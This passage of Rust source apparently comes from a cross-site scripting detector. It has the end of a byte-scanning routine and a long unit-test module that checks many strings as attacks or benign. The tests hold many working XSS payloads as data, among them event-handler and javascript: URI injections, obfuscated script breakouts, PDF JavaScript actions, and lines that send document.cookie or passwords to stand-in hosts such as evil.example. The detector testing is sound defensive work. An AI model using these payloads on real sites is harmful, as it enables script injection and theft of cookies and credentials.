        let mut take = |it: &mut dyn Iterator<Item = usize>| {
            if !sparse {
                return;
            }
            for q in it {
                seen += 1;
                if seen > DENSE {
                    sparse = false;
                    return;
                }
                if trigger(b, from + q) {
                    out.push(from + q);
                }
            }
        };
        take(&mut memchr::memchr3_iter(b'<', b'=', b':', block));
        take(&mut memchr::memchr3_iter(b'(', b'`', b'$', block));
        take(&mut memchr::memchr3_iter(b'.', b'[', b'{', block));
        take(&mut memchr::memchr3_iter(b'!', b'-', b'/', block));
        take(&mut memchr::memchr2_iter(b'\\', 0xC2, block));
    }
    if sparse {
        out.sort_unstable();
        return;
    }
    out.clear();
    walk(b, from, to, out);
}

/// Below this many bytes a block is walked with the table, not searched.
const SHORT: usize = 128;

/// The positions in `b[from..to]` where `trigger` fires, by a table walk.
fn walk(b: &[u8], from: usize, to: usize, out: &mut Vec<usize>) {
    for p in from..to {
        if TRIGGER_BYTE[b[p] as usize] && trigger(b, p) {
            out.push(p);
        }
    }
}

/// The bytes `trigger` looks at.
static TRIGGER_BYTE: [bool; 256] = {
    let mut t = [false; 256];
    let bytes = b"<=:(`$.[{!-/\\";
    let mut i = 0;
    while i < bytes.len() {
        t[bytes[i] as usize] = true;
        i += 1;
    }
    t[0xC2] = true;
    t
};

#[cfg(test)]
mod tests {
    use super::*;

    fn rules_for(s: &str) -> Vec<&'static str> {
        let mut hits = Vec::new();
        scan(s, &mut hits);
        for h in &hits {
            assert!(h.start <= h.end && h.end <= s.len(), "{s}: {h:?}");
        }
        let mut ids: Vec<_> = hits.iter().map(|h| h.rule.id).collect();
        ids.sort();
        ids.dedup();
        ids
    }

    #[track_caller]
    fn attack(s: &str, rule: &str) {
        let ids = rules_for(s);
        assert!(ids.contains(&rule), "{s:?} expected {rule}, got {ids:?}");
    }

    #[track_caller]
    fn benign(s: &str) {
        let ids = rules_for(s);
        assert!(ids.is_empty(), "{s:?} flagged: {ids:?}");
    }

    #[test]
    fn data_blocks_and_foreign_frames() {
        benign(
            "<script type=\"application/ld+json\">{\"@type\":\"Event\",\"name\":\"Open day\"}</script>",
        );
        benign("<script type=application/json id=state>{\"page\":2}</script>");
        attack(
            "<script type=\"text/javascript\">x()</script>",
            "xss-script-tag",
        );
        attack(
            "<script type=module src=//evil.example/m.js></script>",
            "xss-script-tag",
        );
        attack(
            "<script type=application/json src=//evil.example/a></script>",
            "xss-script-tag",
        );
        attack("<script type=importmap>{}</script>", "xss-script-tag");
        benign(
            "<iframe src=\"https://maps.example.org/embed?q=harbour\" width=600 height=450 loading=lazy allowfullscreen></iframe>",
        );
        attack(
            "<iframe src=\"http://evil.example/x.html\"></iframe>",
            "xss-embedding-tag",
        );
        attack("<iframe src=//evil.example/x.html>", "xss-embedding-tag");
        // A frame pinned over the whole window passes another site's page
        // off as this one; a responsive embed sized by its wrapper does not.
        attack(
            "body=<iframe src='https://signin.example.net/' style='position: fixed; inset: 0; z-index: 999'>",
            "xss-embedding-tag",
        );
        attack(
            "<iframe src=\"https://accounts.example.io/\" width=\"100%\" height=\"100%\" style=\"position:fixed;top:0;left:0\">",
            "xss-embedding-tag",
        );
        attack(
            "<iframe src=\"https://x.example/\" style=\"POSITION:FIXED;TOP:0;LEFT:0;RIGHT:0;BOTTOM:0\"></iframe>",
            "xss-embedding-tag",
        );
        benign(
            "<iframe src=\"https://www.example-video.com/embed/abc\" style=\"position:absolute;top:0;left:0;width:100%;height:100%\" allowfullscreen></iframe>",
        );
        benign(
            "<iframe src=\"https://status.example.org/widget\" style=\"position:fixed;bottom:0;right:0;width:320px;height:90px\"></iframe>",
        );
        attack(
            "<iframe src=\"https://evil.example/\" name=\"x\"></iframe>",
            "xss-embedding-tag",
        );
        attack(
            "<iframe src=\"https://a.example/\" onload=alert(1)>",
            "xss-event-handler",
        );
        attack(
            "<object data=\"https://evil.example/x.swf\">",
            "xss-embedding-tag",
        );
    }

    #[test]
    fn framework_gadgets() {
        attack(
            "<div hx-get=\"https://evil.example/frag.html\" hx-trigger=\"load\"></div>",
            "xss-framework-gadget",
        );
        attack(
            "<p data-hx-post=//evil.example/x hx-trigger=load>",
            "xss-framework-gadget",
        );
        attack(
            "<div x-init=\"$el.remove(); self.alert(1)\">",
            "xss-framework-gadget",
        );
        attack(
            "<a @mouseover=\"top.eval(name)\">x</a>",
            "xss-framework-gadget",
        );
        attack(
            "<input ng-focus=$event.view.confirm(1) autofocus>",
            "xss-framework-gadget",
        );
        benign("<button hx-post=\"/clicked\" hx-swap=\"outerHTML\">Click</button>");
        benign(
            "<div x-data=\"{ open: false }\"><button @click=\"open = !open\">Menu</button></div>",
        );
        benign("<li ng-repeat=\"item in items\" ng-click=\"select(item)\">{{item.name}}</li>");
    }

    #[test]
    fn forms_and_style_sheets_that_leak() {
        attack(
            "<form action=\"https://collector.example/l\"><input name=u><input type=password name=p></form>",
            "xss-credential-form",
        );
        benign(
            "<form action=\"/login\" method=post><input name=u><input type=\"password\" name=p></form>",
        );
        benign("<form action=\"https://pay.example/checkout\"><input name=amount value=5></form>");
        attack(
            "<style>input[name=token][value$=\"9\"]{background:url(//x.example/9)}</style>",
            "xss-css-expression",
        );
        benign("<style>a[href^=\"http\"]{background:url(/img/ext.svg) no-repeat}</style>");
    }

    #[test]
    fn dom_clobbering() {
        attack(
            "<form id=settings><input name=uploadUrl value=\"https://evil.example/u\"></form>",
            "xss-dom-clobbering",
        );
        attack(
            "<form name=cfg><img name=cdn src=//evil.example/lib></form>",
            "xss-dom-clobbering",
        );
        benign(
            "<form id=login action=\"/session\" method=post><input name=next value=\"https://shop.example/account\"></form>",
        );
        benign("<form id=search><input name=q value=\"shoes\"></form>");
    }

    #[test]
    fn script_context_breakouts() {
        // Arithmetic around a number.
        attack("qty=3*confirm(document.domain)*1", "xss-js-injection");
        attack("7-prompt(1)-7", "xss-js-injection");
        benign("The total is 10-print(receipt) pages");
        // Unicode line terminators end a comment or statement.
        attack("q=\u{2028}alert(document.domain)//", "xss-js-injection");
        attack("\u{2029}confirm(1)", "xss-js-injection");
        // The Function constructor reached through an object.
        attack(
            "x\";[].constructor.constructor('return document.cookie')();//",
            "xss-js-injection",
        );
        attack(
            "'-{}.constructor.constructor('alert(1)')()-'",
            "xss-js-injection",
        );
        benign("Every class has a constructor(props) { super(props); } method");
        // A sink handed to something that calls it.
        attack("cb=Reflect.apply(confirm,window,[1])", "xss-js-injection");
        attack("[1].map(alert)", "xss-js-injection");
        attack("setTimeout(eval, 0, name)", "xss-js-injection");
        benign("results = list(map(print, rows))");
        benign("if (confirm) { save(); }");
        benign("Use modals (alert, confirm) sparingly.");
    }

    #[test]
    fn pdf_actions() {
        attack(
            "<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
            "xss-pdf-action",
        );
        attack(
            "/OpenAction << /JS (this.submitForm\\('https://evil.example'\\)) >>",
            "xss-pdf-action",
        );
        attack(
            "/AA << /O << /JS <6170702E616C657274283129> >> >>",
            "xss-pdf-action",
        );
        benign("The /JS (scripts) folder holds the bundles.");
        benign("See /js (lower case) and /JSON docs");
    }

    #[test]
    fn tags() {
        attack("<script>alert(1)</script>", "xss-script-tag");
        attack("<ScRiPt src=//evil.example/x.js>", "xss-script-tag");
        attack("<scr<script>ipt>", "xss-script-tag");
        attack("<svg><script>alert(1)</script>", "xss-script-tag");
        attack("<iframe src=//evil.example>", "xss-embedding-tag");
        attack("<object data=x.swf>", "xss-embedding-tag");
        attack("<embed src=x>", "xss-embedding-tag");
        attack("<base href=//evil.example/>", "xss-embedding-tag");
        attack(
            "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
            "xss-embedding-tag",
        );
    }

    #[test]
    fn events() {
        attack("<svg onload=alert(1)>", "xss-event-handler");
        attack("<svg/onload=alert(1)", "xss-event-handler");
        attack("<img src=x onerror=alert(1)//", "xss-event-handler");
        attack("<img src=\"x\"onerror=\"alert(1)\">", "xss-event-handler");
        attack("<body onpageshow=alert(1)>", "xss-event-handler");
        attack("<details open ontoggle=confirm(1)>", "xss-event-handler");
        attack("<x onxyz=alert(1)>", "xss-event-handler");
        attack("\" onmouseover=\"alert(1)", "xss-event-handler");
        attack("' autofocus onfocus='alert(1)", "xss-event-handler");
        attack("\"><img src=x onerror=prompt(1)>", "xss-event-handler");
        // Handlers for an unquoted attribute value, with no tag or quote.
        attack(
            " tabindex=1 onfocusin=confirm(document.domain) ",
            "xss-event-handler",
        );
        attack("onMouseEnter='top.prompt(1)'", "xss-event-handler");
        attack("y onload=eval(atob('YWxlcnQoMSk='))>", "xss-event-handler");
        benign("the onclick=handler pattern in React docs");
        benign("set onload=init() in the body tag");
        benign("we moved onboarding=true into the feature flags");
    }

    #[test]
    fn schemes() {
        attack("<a href=\"javascript:alert(1)\">x</a>", "xss-dangerous-uri");
        attack(
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "xss-dangerous-uri",
        );
        attack("<a href=\" JaVaScRiPt:alert(1)\">", "xss-dangerous-uri");
        attack(
            "<form action=javascript:alert(1)><input type=submit>",
            "xss-dangerous-uri",
        );
        attack(
            "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
            "xss-dangerous-uri",
        );
        attack(
            "<button formaction=vbscript:msgbox(1)>",
            "xss-dangerous-uri",
        );
        attack("javascript:alert(document.cookie)", "xss-dangerous-uri");
        attack("  javascript:void(0)", "xss-dangerous-uri");
        attack(
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "xss-dangerous-uri",
        );
    }

    #[test]
    fn css_srcdoc_template_js() {
        attack(
            "<div style=\"width: expression(alert(1))\">",
            "xss-css-expression",
        );
        attack(
            "<div style=\"x:exp/**/ression(alert(1))\">",
            "xss-css-expression",
        );
        attack(
            "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
            "xss-css-expression",
        );
        attack(
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "xss-srcdoc",
        );
        attack(
            "{{constructor.constructor('alert(1)')()}}",
            "xss-template-injection",
        );
        attack(
            "{{$on.constructor('alert(1)')()}}",
            "xss-template-injection",
        );
        attack("';alert(1)//", "xss-js-injection");
        attack("\"-alert(1)-\"", "xss-js-injection");
        attack("'+alert(document.domain)+'", "xss-js-injection");
        attack("\");prompt`1`;//", "xss-js-injection");
        attack("alert(document.cookie)", "xss-js-injection");
        attack("eval(atob('YWxlcnQoMSk='))", "xss-js-injection");
        attack("alert()", "xss-js-injection");
        attack("document.cookie", "xss-js-injection");
        attack("[].sort.call`${alert}1337`", "xss-js-injection");
        attack("[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]", "xss-js-injection");
        attack(
            "style = background : url ( javascript : alert(1) )",
            "xss-css-expression",
        );
        attack(
            "-moz-binding:url(http://example.com/xss.xml#xss)",
            "xss-css-expression",
        );
        attack("  onload= ", "xss-event-handler");
        attack("\"onzoom=", "xss-event-handler");
        attack("ja\tvascript:", "xss-dangerous-uri");
        attack("+ADw-script+AD4-alert(1)", "xss-script-tag");
        attack("<v:vmlframe src=\"foo.com/sup.fml\"/>", "xss-embedding-tag");
    }

    #[test]
    fn markup_in_values_and_xml() {
        // Code inside an attribute value of an XML body.
        attack(
            "<root><a probe=\"window.location\"></a></root>",
            "xss-js-injection",
        );
        attack("<a probe=\"setInterval(code, 1)\"></a>", "xss-js-injection");
        attack("<meta charset=\"UTF-7\">", "xss-embedding-tag");
        attack("<link href=\"//evil.example/x.css\">", "xss-embedding-tag");
        attack("<?import implementation=\"x.htc\">", "xss-embedding-tag");
        attack("<:vmlframe src=x>", "xss-embedding-tag");
        attack(
            "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"http://evil.example/\"/></r>",
            "xss-embedding-tag",
        );
        attack(
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>",
            "xss-embedding-tag",
        );
        attack(" data: , <x>", "xss-dangerous-uri");
        attack("-->", "xss-markup-breakout");
        attack("--><img src=x>", "xss-markup-breakout");
        attack(
            "\\xbcscript\\xbealert(1)\\xbc/script\\xbe",
            "xss-script-tag",
        );
        attack("'formaction=", "xss-event-handler");
        attack(
            "  onwebkitplaybacktargetavailabilitychanged= ",
            "xss-event-handler",
        );
    }

    #[test]
    fn obfuscated_javascript() {
        attack("window.location=//evil.example", "xss-js-injection");
        attack("new Function()", "xss-js-injection");
        attack("document /*x*/ .     cookie", "xss-js-injection");
        attack("(document)[\"cookie\"]", "xss-js-injection");
        attack(
            "self  /*a*/  [  /*b*/  \"alert\"](\"xss\")",
            "xss-js-injection",
        );
        attack("top.eval(name)", "xss-js-injection");
        attack("[  ] . sort . call ` ${ alert } 1337 `", "xss-js-injection");
        attack("Reflect.apply.call`${x}${y}`", "xss-js-injection");
        attack(
            "document.body.appendChild(document.createElement(\"h1\"))",
            "xss-js-injection",
        );
        attack(
            "document.querySelector(\"p\").textContent=\"x\"",
            "xss-js-injection",
        );
    }

    #[test]
    fn icon_links_and_changelog_entries() {
        for s in [
            "     <link rel=\"shortcut icon\" href=\"https://gcc.gnu.org/favicon.ico\" />",
            "<link rel=\"canonical\" href=\"https://example.org/docs/\">",
            "\t* read.c (eval): [SV 41677] Correct test for TAB vs. 8 spaces.",
            "\t* src/main.c (main): [bug 12] Omit a check.",
        ] {
            benign(s);
        }
        attack(
            "<link rel=\"icon stylesheet\" href=\"https://evil.example/x.css\">",
            "xss-embedding-tag",
        );
        attack(
            "<link rel=\"preload\" href=\"https://evil.example/x\">",
            "xss-embedding-tag",
        );
        attack(
            "<link href=\"https://evil.example/x.css\">",
            "xss-embedding-tag",
        );
        attack("x.c(eval)", "xss-js-injection");
        benign("let data = CodePointMapData::<Script>::new();");
        benign("let v = Vec<Script>::new();");
        attack("x::<Script>alert(1)</Script>", "xss-script-tag");
        attack("q=a<Script>alert(1)</Script>", "xss-script-tag");
        attack("q=a<script>::alert(1)</script>", "xss-script-tag");
        attack("[1].map(eval)", "xss-js-injection");
    }

    #[test]
    fn page_code_and_markup_that_embed_nothing() {
        for s in [
            "<noscript>Turn on JavaScript to see the chart.</noscript>",
            "<link rel=\"stylesheet\" href=\"/static/site.css\">",
            "<link rel=\"icon\" href=\"img/favicon.png\" sizes=\"32x32\">",
            "The old filter removes <script> and nothing else.",
            "Put `<script defer src=\"/js/main.js\"></script>` in the head of the page.",
            "window.addEventListener('resize', () => layout(grid));",
            "document.getElementById('count').textContent = items.length;",
        ] {
            benign(s);
        }
        attack(
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "xss-embedding-tag",
        );
        attack(
            "<link rel=\"stylesheet\" href=\"//cdn.example.net/a.css\">",
            "xss-embedding-tag",
        );
        attack("<link rel=import href=\"/x.html\">", "xss-embedding-tag");
        attack(
            "<link href=\"a.js\" rel=stylesheet type=\"text/javascript\">",
            "xss-embedding-tag",
        );
        attack(
            "document.querySelector('h1').textContent='hacked'",
            "xss-js-injection",
        );
        attack(
            "document.getElementById('f').action = target;",
            "xss-js-injection",
        );
        attack(
            "window.addEventListener('load', () => eval(name));",
            "xss-js-injection",
        );
    }

    #[test]
    fn benign_html_and_prose() {
        for s in [
            "A `<script type=\"module\">` element is deferred by default, so skip defer.",
            "Tom & Jerry <3",
            "a < b and c > d",
            "if (a<b && c>d) return;",
            "<b>bold</b> and <i>italic</i>",
            "<div class=\"x\">hello</div>",
            "<a href=\"https://example.com/page?x=1\">link</a>",
            "<img src=\"/logo.png\" alt=\"Logo\">",
            "See <https://example.com> for details",
            "**bold** and `code` and [link](https://example.com)",
            "In review: please wrap this in a <div> instead of a <span>.",
            "Use javascript: it's everywhere",
            "Meeting at 10:30, room 4",
            "The function alert() is blocking; avoid it.",
            "Set document.cookie with the Secure flag",
            "Prices {{ price }} and {{ user.name }}",
            "Q: what is 2 = 2?",
            "one=1; two=2",
            "He said: \"print the report\"",
            "email me: a@b.com",
            "data: 42 rows",
            "JavaScript: The Good Parts is a short book.",
            "alert(1) is the classic XSS proof of concept; our CSP blocks inline scripts.",
            "Add an <iframe> only for trusted embeds.",
            "The url (see below) is long",
            "Set the expression (x + 1) first",
            "Online = yes",
            "window.location changed after login",
            "document.cookie is readable only for non-HttpOnly cookies.",
            "A --> B --> C",
            "<!-- TODO: remove before launch -->",
            "/* old layout */ is still in the CSS file",
            "See the docs (section 3). Then call me.",
            "If you're willing to import (and wait), it's cheaper.",
            "<meta name=\"viewport\" content=\"width=device-width\">",
            "<?xml version=\"1.0\"?><root><a probe=\"hello\"></a></root>",
            "The entity! It was a SYSTEM failure.",
            "data: 1, 2, <3",
            "Use new Function objects sparingly",
            "document.title is the page title",
            "a[\"b\"] and (c).d are the same shapes",
        ] {
            benign(s);
        }
    }

    #[test]
    fn markup_and_urls_talked_about() {
        for t in [
            "Our CSP blocks inline <script> tags, so load the widget from a file.",
            "Put the <script> element at the end of the body",
            "Never trust a <script> inside user content",
            "Why is javascript:void(0) used in old href attributes?",
            "links with `javascript: void 0` do nothing",
            "window.location.href = '/cart?step=3';",
            "document.location = \"#reviews\";",
            "location.href='/login'",
        ] {
            benign(t);
        }
        attack("<script>alert(document.domain)</script>", "xss-script-tag");
        attack("\"><script> tags</script>", "xss-script-tag");
        attack("x <script> is alert(1)</script>", "xss-script-tag");
        attack("javascript:alert(1)", "xss-dangerous-uri");
        attack("javascript:void(alert(1))", "xss-dangerous-uri");
        attack(
            "window.location = '//evil.example/?c=' + document.cookie",
            "xss-js-injection",
        );
        attack(
            "window.location.href='javascript:alert(1)'",
            "xss-js-injection",
        );
        attack(
            "';location.href='/x?c='+document.cookie;//",
            "xss-js-injection",
        );
    }

    #[test]
    fn arbitrary_inputs_are_safe() {
        crate::detectors::safety::arbitrary_inputs_are_safe(scan);
        crate::detectors::safety::long_multibyte_inputs_are_safe(scan);
        for s in [
            "<a x=\"¼日",
            "\\xbc日\\x",
            "¼script\\日",
            "(日).",
            "[\"日\"]",
        ] {
            let _ = rules_for(s);
        }
    }

    #[test]
    fn dense_and_sparse_blocks_find_the_same() {
        // Dense blocks are walked byte by byte, sparse ones searched: a
        // payload is found in either, and across a block boundary.
        for filler in ["a", ".", "-(", "< "] {
            for pad in [0, BLOCK - 3, BLOCK + 5, 3 * BLOCK - 9] {
                let mut s = filler.repeat(pad / filler.len());
                s.push('\0');
                s.push_str("<svg onload=alert(1)>");
                attack(&s, "xss-event-handler");
                let mut t = filler.repeat(pad / filler.len());
                t.push_str(" javascript:alert(1)");
                attack(&t, "xss-dangerous-uri");
            }
        }
    }

    #[test]
    fn pathological_inputs_terminate() {
        let _ = rules_for(&"<".repeat(100_000));
        let _ = rules_for(&"<a ".repeat(30_000));
        let _ = rules_for(&"{{".repeat(50_000));
        let _ = rules_for(&"=on".repeat(50_000));
        let _ = rules_for(&":".repeat(100_000));
        let _ = rules_for(&"';alert(".repeat(10_000));
        let _ = rules_for(&"[\"a\"]".repeat(30_000));
        let _ = rules_for(&"(document).".repeat(20_000));
        let _ = rules_for(&"/*".repeat(50_000));
        let _ = rules_for(&"-->".repeat(30_000));
        let _ = rules_for(&"\\xbca\\xbe".repeat(20_000));
        let _ = rules_for(&"<!ENTITY ".repeat(20_000));
        let _ = rules_for(&"document.a.".repeat(20_000));
        let _ = rules_for(&"<a b=\"window.location\" ".repeat(5_000));
    }
}
